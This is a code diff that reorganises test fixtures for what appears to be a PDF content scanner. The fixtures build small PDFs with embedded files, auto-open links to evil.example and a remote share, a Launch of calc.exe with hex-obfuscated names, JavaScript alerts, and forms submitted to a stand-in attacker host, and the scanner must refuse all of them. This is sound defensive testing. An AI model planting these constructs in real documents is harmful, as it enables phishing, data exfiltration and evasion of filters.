@@ -13,63 +13,16 @@ const program = '<< /Length 2 >>\nstream\nMZ\nendstream';
 export const pdfWith = (catalog: string, onPage = page(), ...more: string[]): Uint8Array =>
   assemble([`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, ...pages, onPage, ...more], '/Root 1 0 R');
 
+/** A title, and a file that must be refused. */
+type Row = readonly [title: string, bytes: Uint8Array];
+
 /** PDF files that carry other files, or open them. */
-export function badPdf(): BadFile[] {
-  const rows: [title: string, bytes: Uint8Array][] = [
-    [
-      'an attachment',
-      pdfWith('/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 4 0 R >> >>] >> >>', page(), program),
-    ],
-    ['an attachment without a list of names', pdfWith('', page(), '<< /EF << /F 5 0 R >> >>', program)],
-    ['associated files', pdfWith('/AF [<< /F (a.exe) >>]')],
-    [
-      'an attachment on its page',
-      pdfWith('', page('/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]')),
-    ],
-    [
-      'a share that opens with it',
-      pdfWith('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>'),
-    ],
-    ['a web page that opens with it', pdfWith('/OpenAction << /S /URI /URI (http://evil.example/) >>')],
-    ['a rendition', pdfWith('', click('/S /Rendition /OP 0'))],
-    [
-      'a stream that lies elsewhere',
-      pdfWith('', page(), '<< /Length 0 /F (http://evil.example/x) >>\nstream\n\nendstream'),
-    ],
-    ['a link to a file', pdfWith('', click('/S /URI /URI (file://evil/share)'))],
-    ['a link to a script', pdfWith('', click('/S /URI /URI (javascript:alert\\(1\\))'))],
-    ['a program behind a link', pdfWith('', click('/S /Launch /F (calc.exe)'))],
-    ['a second action', pdfWith('', click('/S /GoTo /D [3 0 R /Fit] /Next << /S /Hide >>'))],
-    ['an action elsewhere', pdfWith('/OpenAction 4 0 R', page(), '<< /S 5 0 R >>', '/ResetForm')],
-    ['a form that is sent', pdfWith('', click('/S /SubmitForm /F (https://evil.example/)'))],
-    ['a form that loads its data', pdfWith('', click('/S /ImportData /F (a.fdf)'))],
-    ['an attachment that opens', pdfWith('/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>')],
-    [
-      'a form in XML',
-      pdfWith('/AcroForm << /Fields [] /XFA 4 0 R >>', page(), '<< /Length 6 >>\nstream\n<xdp/>\nendstream'),
-    ],
-    ['a flash film', pdfWith('', page('/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]'))],
-    ['a program, written in hex', pdfWith('/OpenAction << /S /#4c#61unc#68 /F (calc.exe) >>')],
-    [
-      'attachments, of which none is shown',
-      pdfWith('/Names << /EmbeddedFiles 4 0 R >>', page(), '<< /Names [] >>'),
-    ],
-    ['associated files elsewhere', pdfWith('/AF 4 0 R', page(), '[]')],
-    ['an attachment by its other name', pdfWith('', page(), '<< /EF << /UF 5 0 R >> >>', program)],
-    ['a portfolio', pdfWith('/Collection << >>')],
-    ['another document that opens with it', pdfWith('/OpenAction << /S /GoToR /D [0 /Fit] >>')],
-    ['a click that prints', pdfWith('', click('/S /Named /N /Print'))],
-    ['a key that pages do not have', pdfWith('', page('/Unknown 1'))],
-    ['a film', pdfWith('', page('/Annots [<< /Subtype /Movie /Rect [0 0 9 9] >>]'))],
-    ['what happens when its page is shown', pdfWith('', page('/AA << /O << /S /GoTo >> >>'))],
-  ];
-  return [
-    ...[...rows, ...scripts(), ...superseded()].map(([title, bytes]) =>
-      badPdfOf(title, bytes, 'active_content'),
-    ),
-    ...unclear().map(([title, bytes]) => badPdfOf(title, bytes, 'hidden_data')),
-  ];
-}
+export const badPdf = (): BadFile[] => [
+  ...[...carried(), ...acting(), ...scripts(), ...superseded()].map(([title, bytes]) =>
+    badPdfOf(title, bytes, 'active_content'),
+  ),
+  ...unclear().map(([title, bytes]) => badPdfOf(title, bytes, 'hidden_data')),
+];
 
 const badPdfOf = (title: string, bytes: Uint8Array, code: ContentFindingCode): BadFile => ({
   title: `a PDF with ${title}`,
@@ -79,10 +32,64 @@ const badPdfOf = (title: string, bytes: Uint8Array, code: ContentFindingCode): B
   codes: [code],
 });
 
+/** What a document carries, and what opens with it. */
+const carried = (): Row[] => [
+  [
+    'an attachment',
+    pdfWith('/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 4 0 R >> >>] >> >>', page(), program),
+  ],
+  ['an attachment without a list of names', pdfWith('', page(), '<< /EF << /F 5 0 R >> >>', program)],
+  ['associated files', pdfWith('/AF [<< /F (a.exe) >>]')],
+  [
+    'an attachment on its page',
+    pdfWith('', page('/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]')),
+  ],
+  [
+    'a share that opens with it',
+    pdfWith('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>'),
+  ],
+  ['a web page that opens with it', pdfWith('/OpenAction << /S /URI /URI (http://evil.example/) >>')],
+  ['a rendition', pdfWith('', click('/S /Rendition /OP 0'))],
+  [
+    'a stream that lies elsewhere',
+    pdfWith('', page(), '<< /Length 0 /F (http://evil.example/x) >>\nstream\n\nendstream'),
+  ],
+  ['a link to a file', pdfWith('', click('/S /URI /URI (file://evil/share)'))],
+  ['a link to a script', pdfWith('', click('/S /URI /URI (javascript:alert\\(1\\))'))],
+  ['a program behind a link', pdfWith('', click('/S /Launch /F (calc.exe)'))],
+];
+
+/** What else a document does. */
+const acting = (): Row[] => [
+  ['a second action', pdfWith('', click('/S /GoTo /D [3 0 R /Fit] /Next << /S /Hide >>'))],
+  ['an action elsewhere', pdfWith('/OpenAction 4 0 R', page(), '<< /S 5 0 R >>', '/ResetForm')],
+  ['a form that is sent', pdfWith('', click('/S /SubmitForm /F (https://evil.example/)'))],
+  ['a form that loads its data', pdfWith('', click('/S /ImportData /F (a.fdf)'))],
+  ['an attachment that opens', pdfWith('/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>')],
+  [
+    'a form in XML',
+    pdfWith('/AcroForm << /Fields [] /XFA 4 0 R >>', page(), '<< /Length 6 >>\nstream\n<xdp/>\nendstream'),
+  ],
+  ['a flash film', pdfWith('', page('/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]'))],
+  ['a program, written in hex', pdfWith('/OpenAction << /S /#4c#61unc#68 /F (calc.exe) >>')],
+  [
+    'attachments, of which none is shown',
+    pdfWith('/Names << /EmbeddedFiles 4 0 R >>', page(), '<< /Names [] >>'),
+  ],
+  ['associated files elsewhere', pdfWith('/AF 4 0 R', page(), '[]')],
+  ['an attachment by its other name', pdfWith('', page(), '<< /EF << /UF 5 0 R >> >>', program)],
+  ['a portfolio', pdfWith('/Collection << >>')],
+  ['another document that opens with it', pdfWith('/OpenAction << /S /GoToR /D [0 /Fit] >>')],
+  ['a click that prints', pdfWith('', click('/S /Named /N /Print'))],
+  ['a key that pages do not have', pdfWith('', page('/Unknown 1'))],
+  ['a film', pdfWith('', page('/Annots [<< /Subtype /Movie /Rect [0 0 9 9] >>]'))],
+  ['what happens when its page is shown', pdfWith('', page('/AA << /O << /S /GoTo >> >>'))],
+];
+
 const script = '/S /JavaScript /JS (app.alert\\(1\\))';
 
 /** Everywhere a script can stand, and every way to write that it is one. */
-function scripts(): [title: string, bytes: Uint8Array][] {
+function scripts(): Row[] {
   const hex = (name: string) => [...name].map((sign) => `#${sign.charCodeAt(0).toString(16)}`).join('');
   const elsewhere = [page(), `<< ${script} >>`] as const;
   return [
@@ -122,7 +129,7 @@ const twice = (number: number, first: string, second: string): string =>
   `${first}\nendobj\n${number} 0 obj\n${second}`;
 
 /** What stands in a definition that a later one takes the place of: some readers take the first. */
-function superseded(): [title: string, bytes: Uint8Array][] {
+function superseded(): Row[] {
   const share = '/OpenAction << /S /URI /URI (file://evil/share) >>';
   const pagesOf = '/Type /Catalog /Pages 2 0 R';
   return [
@@ -161,7 +168,7 @@ function superseded(): [title: string, bytes: Uint8Array][] {
 }
 
 /** What one reader takes for something else than another. */
-function unclear(): [title: string, bytes: Uint8Array][] {
+function unclear(): Row[] {
   const { length } = hiddenObjects;
   const link = '/Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.example/) >>';
   return [
